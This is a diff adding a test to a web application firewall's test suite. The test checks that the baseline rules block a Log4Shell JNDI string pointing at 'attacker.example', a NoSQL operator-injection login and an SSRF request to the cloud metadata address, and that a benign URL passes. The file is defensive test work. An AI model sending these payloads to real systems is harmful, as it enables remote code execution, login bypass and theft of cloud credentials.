@@ -40,6 +40,21 @@ test('the baseline rules block SQL injection, XSS and traversal and pass benign 
   }
 })
 
+test('the baseline rules include Palisade’s rule set (Log4Shell, NoSQL, SSRF without CRS installed)', () => {
+  const waf = createWaf(baselineRuleSet(settings()))
+  for (const [uri, headers] of [
+    ['/', [['User-Agent', '${jndi:ldap://attacker.example/a}']]],
+    ['/login?user[$ne]=x&password[$ne]=x', []],
+    ['/fetch?url=http://169.254.169.254/latest/meta-data/', []],
+  ] as Array<[string, Array<[string, string]>]>) {
+    const v = evaluateRequest(waf, get(uri, headers))
+    assert.equal(v.action, 'block', uri)
+    assert.equal(v.interruption?.ruleId, 9509110, uri)
+  }
+  assert.equal(evaluateRequest(waf, get('/fetch?url=https://example.com/feed.xml')).action, 'allow')
+  assert.equal(refused({ exclusions: [{ ruleId: 9509110 }] }), 'PAL_WAF_SETTINGS_INVALID')
+})
+
 test('a disallowed method is blocked by policy', () => {
   const waf = createWaf(baselineRuleSet(settings({ allowedMethods: ['GET'] })))
   assert.equal(evaluateRequest(waf, { ...get('/'), method: 'DELETE' }).action, 'block')
